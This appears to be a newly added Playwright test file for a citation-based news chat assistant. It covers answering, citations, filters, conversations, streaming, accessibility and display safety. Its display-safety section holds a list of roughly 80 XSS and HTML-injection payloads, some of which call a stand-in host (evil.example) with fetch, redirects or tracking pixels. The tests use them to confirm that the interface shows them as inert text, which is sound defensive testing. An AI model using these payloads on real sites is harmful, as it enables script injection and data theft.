@@ -1,0 +1,567 @@
+"""The chat in a real browser: asked, answered, checked, filtered, attacked, and looked at by axe."""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+from collections.abc import Callable, Iterator, Sequence
+from datetime import date
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-untyped]
+from gradio_client import Client  # type: ignore[import-untyped]
+from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
+
+from assistant.chain import Assistant
+from assistant.settings import Settings
+from assistant.types import Answer, Article, Citation, Passage, RetrievedPassage
+from assistant.ui import build_chat, texts
+from assistant.ui.serving import launch
+from ingest import ingest
+
+pytestmark = pytest.mark.browser
+
+CHROMIUM = Path("/usr/bin/chromium")
+FLAGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+BLINKEN = "What did Blinken say about resettlement?"
+WAIT = 60_000
+"""Milliseconds for an answer; the first one loads the models, perhaps on a busy machine."""
+
+Open = Callable[..., Page]
+
+
+@pytest.fixture(scope="session")
+def chromium() -> Iterator[Browser]:
+    if not CHROMIUM.exists():
+        pytest.skip(f"{CHROMIUM} is not installed")
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
+        yield browser
+        browser.close()
+
+
+@pytest.fixture
+def visit(chromium: Browser) -> Iterator[Open]:
+    """Opens an address as a reader would. Afterwards: nothing was asked of another host, no script failed."""
+    contexts: list[BrowserContext] = []
+    foreign: list[str] = []
+    broken: list[str] = []
+
+    def opened(address: str, *, width: int = 1280, height: int = 800, scheme: Any = "light") -> Page:
+        context = chromium.new_context(viewport={"width": width, "height": height}, color_scheme=scheme)
+        contexts.append(context)
+        page = context.new_page()
+        local = re.compile(r"(https?|wss?)://127\.0\.0\.1:|data:|blob:|about:")
+        page.on("request", lambda request: None if local.match(request.url) else foreign.append(request.url))
+        page.on("pageerror", lambda error: broken.append(str(error)))
+        page.goto(address)
+        page.locator(".welcome, .turn").first.wait_for(state="attached", timeout=WAIT)
+        return page
+
+    yield opened
+    for context in contexts:
+        context.close()
+    assert foreign == []
+    assert broken == []
+
+
+@pytest.fixture(scope="module")
+def serving() -> Iterator[Callable[[Assistant], str]]:
+    """Serves the chat over an assistant and gives back its address."""
+    pages = []
+
+    def serve(assistant: Assistant, sample: bool = False) -> str:
+        page = build_chat(assistant, sample=sample)
+        pages.append(page)
+        return launch(page).rstrip("/")
+
+    yield serve
+    for page in pages:
+        page.close(verbose=False)
+
+
+@pytest.fixture(scope="module")
+def chat(serving: Callable[..., str], sample_settings: Settings) -> str:
+    """The address of the chat over the sample articles."""
+    return serving(Assistant(sample_settings), sample=True)
+
+
+def ask(page: Page, question: str) -> None:
+    """Asks, and waits until the answer is whole."""
+    turns = page.locator(".turn").count()
+    page.locator("#question textarea").fill(question)
+    page.keyboard.press("Enter")
+    page.locator(f".turn:nth-child({turns + 1}):not([data-status=reading])").wait_for(timeout=WAIT)
+
+
+# --- asking and reading ------------------------------------------------------------------------------------
+
+
+def test_a_question_is_answered_and_its_citation_shows_the_marked_quote(visit: Open, chat: str) -> None:
+    page = visit(chat)
+    expect(page.locator(".banner")).to_contain_text(texts.SAMPLE_COMMAND)
+    expect(page.locator(".extent")).to_contain_text("articles")
+    ask(page, BLINKEN)
+    expect(page.locator(".turn")).to_have_attribute("data-status", "answered")
+    expect(page.locator(".answer")).to_contain_text("opposes any proposal to resettle them")
+    page.locator(".answer [data-cite='1']").first.click()
+    card = page.locator("[data-card='1']")
+    expect(card).to_be_focused()
+    expect(card).to_have_class(re.compile("lit"))
+    expect(card).to_contain_text(texts.UNDATED)
+    expect(card).to_contain_text("Is the US ‘turning its back’ on Israel?")
+    expect(card.locator("mark")).to_be_visible()
+
+
+def test_marker_card_article_and_back_by_keyboard_alone(visit: Open, chat: str) -> None:
+    page = visit(chat)
+    ask(page, BLINKEN)
+    marker = page.locator(".answer [data-cite='1']").first
+    marker.focus()
+    page.keyboard.press("Enter")
+    expect(page.locator("[data-card='1']")).to_be_focused()
+    page.keyboard.press("Enter")
+    reader = page.locator("dialog[open]")
+    expect(reader.locator("mark").first).to_be_in_viewport()
+    expect(reader).to_contain_text("Israel continues its offensive in Gaza")
+    page.keyboard.press("Escape")
+    expect(reader).to_have_count(0)
+    page.locator("[data-card='1'] [data-back]").focus()
+    page.keyboard.press("Enter")
+    expect(marker).to_be_focused()
+
+
+def test_a_refusal_looks_like_one_and_names_the_nearest_articles(visit: Open, chat: str) -> None:
+    page = visit(chat)
+    ask(page, "Who won the 2022 World Cup?")
+    expect(page.locator(".turn")).to_have_attribute("data-status", "not_in_articles")
+    expect(page.locator(".refusal")).to_have_text(texts.NOT_IN_ARTICLES)
+    expect(page.locator(".sources")).to_have_count(0)
+    assert 1 <= page.locator(".nearest li").count() <= 3
+    page.locator(".nearest .open").first.click()
+    expect(page.locator("dialog[open] .body")).to_be_visible()
+
+
+def test_every_example_question_can_be_pressed_and_is_answered(visit: Open, chat: str) -> None:
+    page = visit(chat)
+    page.locator("#examples [data-ask]").first.wait_for(timeout=WAIT)
+    examples = page.locator("#examples [data-ask]").all_text_contents()
+    assert len(examples) >= 2
+    page.locator("#examples [data-ask]").first.click()
+    page.locator(".turn[data-status=answered]").wait_for(timeout=WAIT)
+    expect(page.locator(".question")).to_have_text(examples[0])
+    for example in examples[1:]:
+        ask(page, example)
+        expect(page.locator(".turn").last).to_have_attribute("data-status", "answered")
+
+
+def test_an_error_of_ours_is_one_sentence_and_the_question_stays(visit: Open, chat: str) -> None:
+    page = visit(chat)
+    long = "Who said what to whom? " * 200
+    page.locator("#question textarea").fill(long)
+    page.keyboard.press("Enter")
+    expect(page.locator("[role=alert]")).to_contain_text("characters", timeout=WAIT)
+    expect(page.locator("#question textarea")).to_have_value(long)
+    ask(page, BLINKEN)
+    expect(page.locator("[role=alert]")).to_have_count(0)
+
+
+def test_edit_puts_the_question_back_and_ask_again_answers_again(visit: Open, chat: str) -> None:
+    page = visit(chat)
+    ask(page, BLINKEN)
+    page.locator("[data-again]").click()
+    page.locator(".turn:not([data-status=reading])").wait_for(timeout=WAIT)
+    expect(page.locator(".turn")).to_have_count(1)
+    page.locator("[data-edit]").click()
+    expect(page.locator("#question textarea")).to_have_value(BLINKEN)
+    expect(page.locator(".turn")).to_have_count(0)
+
+
+def test_what_is_copied_carries_its_sources(visit: Open, chat: str) -> None:
+    page = visit(chat)
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    ask(page, BLINKEN)
+    page.locator("[data-copy]").click()
+    expect(page.locator("[data-copy]")).to_have_text(texts.COPIED)
+    copied = page.evaluate("navigator.clipboard.readText()")
+    assert copied.startswith(BLINKEN)
+    assert "[1]" in copied.splitlines()[-1] or "\n[1] " in copied
+
+
+# --- filters, address, articles ------------------------------------------------------------------------------
+
+
+def test_an_address_reproduces_question_and_filters(visit: Open, chat: str) -> None:
+    page = visit(f"{chat}/?q={quote(BLINKEN)}&as_of=2026-05-01&sources=The%20Castrin%20Herald")
+    page.locator(".turn:not([data-status=reading])").wait_for(timeout=WAIT)
+    expect(page.locator(".question")).to_have_text(BLINKEN)
+    expect(page.locator(".limits")).to_contain_text("The Castrin Herald · as of 1 May 2026")
+    expect(page.locator(".turn")).to_have_attribute("data-status", "not_in_articles")
+    expect(page.locator(".menu.active")).to_have_count(2)
+
+
+def test_a_filter_chosen_is_shown_applied_and_kept_in_the_address(visit: Open, chat: str) -> None:
+    page = visit(chat)
+    page.locator("[data-menu=as_of] summary").click()
+    page.locator("input[name=as_of]").fill("2026-05-01")
+    page.keyboard.press("Escape")
+    expect(page.locator("[data-menu=as_of][open]")).to_have_count(0)
+    ask(page, BLINKEN)
+    expect(page.locator(".limits")).to_have_text("as of 1 May 2026")
+    assert "as_of=2026-05-01" in page.url
+    page.locator("[data-menu=as_of] summary").click()
+    page.locator("[data-clear=as_of]").click()
+    assert "as_of" not in page.url
+
+
+def test_the_list_of_articles_is_searched_sorted_and_read(
+    visit: Open, chat: str, sample_settings: Settings
+) -> None:
+    page = visit(f"{chat}/?tab=articles")
+    articles = Assistant(sample_settings).articles()
+    expect(page.locator("tbody tr")).to_have_count(len(articles))
+    page.locator("#articles input[type=search]").fill("turning its back")
+    expect(page.locator("tbody tr")).to_have_count(1)
+    page.locator("tbody .open").click()
+    expect(page.locator("dialog[open] .body")).to_contain_text("as soon as conditions allow")
+    page.keyboard.press("Escape")
+    page.locator("#articles input[type=search]").fill("")
+    page.locator("#articles select").select_option("title")
+    expect(page.locator("tbody tr").first).to_contain_text(min((a.title for a in articles), key=str.casefold))
+
+
+# --- while an answer arrives -----------------------------------------------------------------------------------
+
+
+class Told(Assistant):
+    """An assistant whose answers are given: only what it says is made up, the chat around it is real."""
+
+    def __init__(self, answers: Sequence[Answer | Exception], pause: float = 0.0) -> None:
+        super().__init__(Settings(chat_model="extractive"))
+        self._answers = list(answers)
+        self._pause = pause
+
+    def stream(self, question: str, **_: Any) -> Iterator[str | Answer]:
+        answer = self._answers.pop(0) if len(self._answers) > 1 else self._answers[0]
+        if isinstance(answer, Exception):
+            raise answer
+        for piece in re.findall(r".+?\]\s*|.+", answer.text, re.S):
+            time.sleep(self._pause)
+            yield piece
+        time.sleep(self._pause)
+        yield answer
+
+    def suggestions(self, most: int = 4) -> list[str]:
+        return []
+
+    def articles(self) -> list[Article]:
+        return []
+
+    def article(self, article_id: str) -> Article | None:
+        return None
+
+
+def told(quotes: Sequence[str], short: str | None = "the short answer", **more: Any) -> Answer:
+    """An answer that cites every quote, each from an article of its own."""
+    citations, found = [], []
+    for number, words in enumerate(quotes, 1):
+        article, day = f"a{number}", date(2026, 7, 3)
+        passage = Passage(f"p{number}", article, words, words, words, day, words, 0)
+        found.append(RetrievedPassage(passage, 1.0, number))
+        end = len(words)
+        citations.append(
+            Citation(number, words, words, words, words, day, article, 0, end, words, "direct", (words,))
+        )
+    text = "\n\n".join(f"{words} [{number}]" for number, words in enumerate(quotes, 1))
+    return Answer(text, short, "answered", tuple(citations), tuple(found), "Who?", **more)
+
+
+def test_nothing_moves_under_the_reader_while_an_answer_arrives(
+    visit: Open, serving: Callable[..., str]
+) -> None:
+    quotes = [f"Sentence number {n} of an answer that comes slowly, one after the other." for n in range(4)]
+    page = visit(serving(Told([told(quotes)], pause=0.4)))
+    page.locator("#question textarea").fill("Who?")
+    page.keyboard.press("Enter")
+    page.locator(".statement").first.wait_for()
+    place = "document.querySelector('.statement').getBoundingClientRect().top"
+    places = [page.evaluate(place)]
+    while page.locator(".turn[data-status=reading]").count():
+        places.append(page.evaluate(place))
+    places.append(page.evaluate(place))
+    assert max(places) - min(places) < 1
+    assert len(places) > 3
+
+
+def test_stop_keeps_what_has_arrived_and_the_next_question_is_answered(
+    visit: Open, serving: Callable[..., str]
+) -> None:
+    page = visit(serving(Told([told(["One.", "Two.", "Three.", "Four."]), told(["Five."])], pause=0.5)))
+    page.locator("#question textarea").fill("Who?")
+    page.keyboard.press("Enter")
+    page.locator(".statement").first.wait_for()
+    page.locator("#question .stop-button").click()
+    expect(page.locator(".turn")).to_have_attribute("data-status", "stopped")
+    expect(page.locator(".opening")).to_have_text(texts.STOPPED)
+    ask(page, "And then?")
+    expect(page.locator(".turn").last.locator(".answer")).to_contain_text("Five.")
+
+
+def test_a_failure_nobody_foresaw_shows_no_trace(visit: Open, serving: Callable[..., str]) -> None:
+    page = visit(serving(Told([RuntimeError("secret detail")])))
+    page.locator("#question textarea").fill("Who?")
+    page.keyboard.press("Enter")
+    expect(page.locator("[role=alert]")).to_have_text(texts.TROUBLE)
+    expect(page.locator("#question textarea")).to_have_value("Who?")
+    assert "secret" not in page.content()
+
+
+# --- conversations -----------------------------------------------------------------------------------------------
+
+
+def test_a_conversation_outlives_a_reload_and_a_restart_of_the_server(visit: Open) -> None:
+    first = build_chat(Told([told(["One thing."]), told(["Another."])]))
+    address = launch(first)
+    page = visit(address)
+    ask(page, "What first?")
+    ask(page, "What then?")
+    before = page.locator(".turns").inner_text()
+    page.reload()
+    expect(page.locator(".turn")).to_have_count(2)
+    assert page.locator(".turns").inner_text() == before
+    first.close(verbose=False)
+    second = build_chat(Told([told(["A third."])]))
+    assert launch(second, port=int(address.rstrip("/").rpartition(":")[2])) == address
+    page.reload()
+    expect(page.locator(".turn")).to_have_count(2)
+    ask(page, "And now?")
+    expect(page.locator(".turn")).to_have_count(3)
+    second.close(verbose=False)
+
+
+def test_conversations_are_listed_renamed_exported_and_deleted(
+    visit: Open, serving: Callable[..., str]
+) -> None:
+    page = visit(serving(Told([told(["One *thing*."], short="one")])))
+    ask(page, "What first?")
+    menu = page.locator(".conversations")
+    menu.locator("summary").click()
+    expect(menu.locator("li a")).to_have_text(["What first?"])
+    menu.get_by_role("button", name=texts.RENAME).click()
+    menu.locator("li input").fill("My <b>title</b>")
+    page.keyboard.press("Enter")
+    expect(menu.locator("li a")).to_have_text(["My <b>title</b>"])
+    with page.expect_download() as download:
+        menu.get_by_role("button", name=texts.EXPORT_MARKDOWN).click()
+    exported = download.value.path().read_text(encoding="utf-8")
+    assert "## What first?\n\n**one**\n\nOne \\*thing\\*. [^1]\n\n[^1]: “One \\*thing\\*.”" in exported
+    with page.expect_download() as download:
+        menu.get_by_role("button", name=texts.EXPORT_JSON).click()
+    kept = json.loads(download.value.path().read_text(encoding="utf-8"))
+    assert kept["turns"][0]["answer"]["citations"][0]["quote"] == "One *thing*."
+    menu.get_by_role("button", name=texts.DELETE).click()
+    page.locator(".welcome").wait_for()
+    page.locator(".conversations summary").click()
+    expect(page.locator(".conversations li")).to_have_count(0)
+
+
+# --- safety of display --------------------------------------------------------------------------------------------
+
+HIT = "window.hits=(window.hits||0)+1"
+ATTACKS = [
+    *(
+        frame.format(code)
+        for code in (
+            HIT,
+            f"fetch(`https://evil.example/?`+({HIT}))",
+            "document.location=`https://evil.example/`",
+        )
+        for frame in (
+            "<script>{}</script>",
+            "</script><script>{}</script>",
+            "<img src=x onerror='{}'>",
+            '<img src=x onerror="{}">',
+            "<svg onload='{}'>",
+            "<svg><script>{}</script></svg>",
+            "<body onload='{}'>",
+            "<details open ontoggle='{}'>x</details>",
+            "<input autofocus onfocus='{}'>",
+            "<a href='javascript:{}'>read</a>",
+            "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
+            "<iframe src='javascript:{}'></iframe>",
+            "\" onmouseover='{}' x=\"",
+            "' onfocus='{}' autofocus x='",
+            "</p></blockquote></li><script>{}</script>",
+            "<math><mtext><style><img src=x onerror='{}'></style></mtext></math>",
+            "javascript:{}",
+            "{{{{constructor.constructor('{}')()}}}}",
+            "${{{}}}",
+            "`;{};`",
+            "<marquee onstart='{}'>x</marquee>",
+            "<video><source onerror='{}'></video>",
+            "[read](javascript:{})",
+        )
+    ),
+    "![photo](https://evil.example/pixel.png)",
+    "[![photo](https://evil.example/pixel.png)](https://evil.example)",
+    "<img src=https://evil.example/pixel.png>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example><button>Read</button></form>",
+    "<object data=https://evil.example></object>",
+    "<embed src=https://evil.example>",
+    "<!-- <script>" + HIT + "</script> -->",
+    "<b>unclosed <i>markup <table><td>",
+    "data:text/html,<script>" + HIT + "</script>",
+    "\u202egnp.elif‮ \u2066isolated\u2067 never closed",
+    "&lt;script&gt;" + HIT + "&lt;/script&gt;",
+    "<ScRiPt\n>" + HIT + "</sCrIpT>",
+    "\x00<scr\x00ipt>" + HIT + "</script>",
+]
+
+
+def unharmed(page: Page) -> None:
+    """No script of an article's ran, nothing of its markup became an element, no link leads elsewhere."""
+    assert page.evaluate("window.hits") is None
+    assert page.evaluate("document.location.hostname") == "127.0.0.1"
+    inside = "#thread, #articles, #masthead, #examples"
+    assert (
+        page.locator(inside).locator("img, iframe, svg, style, link, object, embed, form, video").count() == 0
+    )
+    assert (
+        page.locator(inside).locator("a[href*='evil'], a[href^='javascript' i], a[href^='data' i]").count()
+        == 0
+    )
+    assert (
+        page.evaluate(
+            "[...document.querySelectorAll('#thread *, #articles *, #masthead *')]"
+            ".filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length"
+        )
+        == 0
+    )
+
+
+def test_attacks_in_an_answer_stay_text_in_every_panel(visit: Open, serving: Callable[..., str]) -> None:
+    assert len(ATTACKS) >= 80
+    everywhere = told(ATTACKS, short=ATTACKS[0], notes=tuple(ATTACKS))
+    refused = Answer(ATTACKS[1], None, "not_in_articles", (), (), ATTACKS[2], notes=tuple(ATTACKS))
+    page = visit(serving(Told([everywhere, refused])))
+    ask(page, ATTACKS[0])
+    for panel in (".answer", ".sources", ".notes"):
+        shown = " ".join(page.locator(panel).inner_text().split())
+        for attack in ATTACKS:
+            assert " ".join(attack.replace("\0", "").split()) in shown
+    page.locator("[data-cite='5']").click()
+    unharmed(page)
+    ask(page, ATTACKS[2])
+    unharmed(page)
+
+
+def test_attacks_in_articles_stay_text_from_ingestion_to_reading(
+    visit: Open, serving: Callable[..., str], tmp_path: Path
+) -> None:
+    settings = Settings(index_dir=tmp_path / "index", chat_model="extractive")
+    articles = [
+        Article(
+            id=f"{number}{attack}",
+            url=attack,
+            title=f"Mayor {number} resigns {attack}",
+            source=f"Outlet {number} {attack}",
+            authors=(attack,),
+            published=date(2026, 7, 3),
+            text=f"The mayor of town {number} resigned on Friday after a vote. {attack}\n\nNo successor was named.",
+        )
+        for number, attack in enumerate(ATTACKS)
+    ]
+    ingest(articles, settings)
+    page = visit(serving(Assistant(settings)))
+    ask(page, "Who resigned on Friday after a vote?")
+    page.locator(".turn .open").first.click()
+    expect(page.locator("dialog[open] .body")).to_contain_text("resigned on Friday")
+    page.keyboard.press("Escape")
+    page.locator("[data-menu=outlets] summary").click()
+    unharmed(page)
+    page.locator("[data-view=articles]").click()
+    page.locator("[data-more]").click()
+    expect(page.locator("tbody tr")).to_have_count(len(articles))
+    for row in range(0, len(articles), 9):
+        page.locator("tbody .open").nth(row).click()
+        expect(page.locator("dialog[open] .body")).to_contain_text("resigned on Friday")
+        page.keyboard.press("Escape")
+    unharmed(page)
+
+
+def test_text_from_right_to_left_is_set_from_the_right(visit: Open, serving: Callable[..., str]) -> None:
+    arabic = "قال الوزير إن الطريق سيفتح يوم الجمعة."
+    page = visit(serving(Told([told([arabic], short=None)])))
+    ask(page, "ماذا قال الوزير؟")
+    for place in (".question", ".statement", ".card blockquote", ".card .headline"):
+        assert page.locator(place).evaluate("e => getComputedStyle(e).direction") == "rtl"
+
+
+# --- form ------------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("width", "height", "scheme"),
+    [
+        (360, 740, "light"),
+        (360, 740, "dark"),
+        (1280, 800, "light"),
+        (1280, 800, "dark"),
+        (2560, 1440, "light"),
+    ],
+)
+def test_every_state_fits_its_window_and_passes_axe(
+    visit: Open, chat: str, width: int, height: int, scheme: str
+) -> None:
+    page = visit(chat, width=width, height=height, scheme=scheme)
+    page.locator("#examples [data-ask]").first.wait_for(timeout=WAIT)
+    sound(page)
+    ask(page, BLINKEN)
+    ask(page, "Who won the 2022 World Cup?")
+    sound(page)
+    page.locator(".card .open").first.click()
+    page.locator("dialog[open] mark").first.wait_for()
+    sound(page)
+    page.keyboard.press("Escape")
+    page.locator("[data-view=articles]").click()
+    page.locator("tbody tr").first.wait_for()
+    sound(page)
+
+
+def sound(page: Page) -> None:
+    """Nothing is wider than the window, and axe finds nothing serious."""
+    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
+    found = Axe().run(page).response["violations"]
+    grave = [
+        (v["id"], [n["html"][:120] for n in v["nodes"]])
+        for v in found
+        if v["impact"] in {"serious", "critical"}
+    ]
+    assert grave == []
+
+
+# --- doors for programs --------------------------------------------------------------------------------------------
+
+
+def test_a_program_asks_and_gets_the_answer_as_json(chat: str) -> None:
+    client = Client(chat, verbose=False)
+    answer = client.predict(BLINKEN, api_name="/ask")
+    assert answer["status"] == "answered"
+    assert answer["citations"][0]["quote"]
+    assert set(answer) == set(Answer("", None, "answered", (), (), "").to_dict())
